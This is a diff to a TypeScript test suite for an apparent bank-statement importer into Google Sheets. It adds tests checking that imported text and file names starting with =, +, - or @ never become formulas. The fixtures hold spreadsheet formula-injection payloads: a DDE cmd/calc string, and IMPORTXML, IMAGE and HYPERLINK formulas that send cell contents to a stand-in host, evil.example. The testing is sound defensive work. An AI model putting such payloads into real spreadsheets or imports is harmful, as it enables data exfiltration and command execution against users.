@@ -17,6 +17,13 @@ const rows: SparkasseRow[] = [
   { bookingDate: '02.01.25', purpose: '0012 Miete Januar', counterparty: 'Hausverwaltung Süd GmbH', iban: 'DE02120300000000202051', amount: '-1500,00' },
 ];
 
+/** Every way a cell's text starts a formula in Sheets (CWE-1236): `=`, `+`, `-`, `@`. */
+const injections: SparkasseRow[] = [
+  { bookingDate: '05.01.25', purpose: '-2+3+cmd|\' /C calc\'!A0', counterparty: '@SUM(1+1)*cmd', amount: '1,00' },
+  { bookingDate: '05.01.25', purpose: '@IMPORTXML("http://evil.example/?"&A1;"//a")', counterparty: '-Mallory', amount: '2,00' },
+  { bookingDate: '05.01.25', purpose: '+IMAGE("http://evil.example/x.png")', counterparty: '=1+1', amount: '3,00' },
+];
+
 function file(name: string, content: SparkasseRow[]) {
   return { fileName: name, contentBase64: base64(windows1252(sparkasseCsvText(content))), profileId };
 }
@@ -53,6 +60,8 @@ describe('import of a Sparkasse statement through the built bundle', () => {
     expect(values[2]![col('Purpose')]).toBe('=HYPERLINK("http://evil.example/?"&A1;"klick")');
     expect(values[2]![col('Counterparty')]).toBe('+Angreifer');
     expect(values[3]![col('Purpose')]).toBe('0012 Miete Januar');
+    // One write per sheet: the transactions, and the entry in the import history.
+    expect(runtime.spreadsheet.sheet('Imports').values()).toHaveLength(2);
     // Two genuinely identical payments on one day are two transactions.
     expect(values[3]![col('Fingerprint')]).not.toBe(values[4]![col('Fingerprint')]);
 
@@ -61,6 +70,24 @@ describe('import of a Sparkasse statement through the built bundle', () => {
     expect(sheet.values()).toHaveLength(5);
     const preview2 = runtime.call('previewImport', file('oktober.csv', rows)) as Record<string, unknown>;
     expect(preview2).toMatchObject({ newCount: 0, duplicateCount: 4 });
+  });
+
+  it('never turns bank text starting with =, +, - or @ into a formula, nor a file name in the import history', () => {
+    const runtime = createRuntime({ bundleDir: dist });
+    const fileName = '=HYPERLINK("http://evil.example/?"&B2;"statement").csv';
+    const result = runtime.call('importStatement', { ...file(fileName, injections), importGoodRows: false }) as Record<string, unknown>;
+    expect(result).toMatchObject({ status: 'imported', imported: 3 });
+    const transactions = runtime.spreadsheet.sheet('Transactions');
+    const header = transactions.values()[0] as string[];
+    const rows = transactions.values().slice(1);
+    expect(rows.map((r) => r[header.indexOf('Purpose')])).toEqual(injections.map((r) => r.purpose));
+    expect(rows.map((r) => r[header.indexOf('Counterparty')])).toEqual(injections.map((r) => r.counterparty));
+    expect(rows.map((r) => r[header.indexOf('Import file')])).toEqual([fileName, fileName, fileName]);
+    expect(transactions.formulas().flat().filter((f) => f !== '')).toEqual([]);
+    const imports = runtime.spreadsheet.sheet('Imports');
+    const importsHeader = imports.values()[0] as string[];
+    expect(imports.values()[1]![importsHeader.indexOf('File')]).toBe(fileName);
+    expect(imports.formulas().flat().filter((f) => f !== '')).toEqual([]);
   });
 
   it('keeps calendar dates whatever the script and spreadsheet time zones', () => {
@@ -96,7 +123,8 @@ describe('import of a Sparkasse statement through the built bundle', () => {
     };
     const results = [3, 900, 1500, 3000].map(calls);
     expect(results.map((r) => r.rows)).toEqual([5, 902, 1502, 3002]);
-    expect(results.map((r) => r.writes)).toEqual([1, 1, 1, 1]);
+    // One write for the transactions, one for the entry in the "Imports" sheet.
+    expect(results.map((r) => r.writes)).toEqual([2, 2, 2, 2]);
     expect(results.map((r) => r.grows)).toEqual([0, 0, 1, 1]);
     expect(new Set(results.map((r) => r.other)).size).toBe(1);
   });
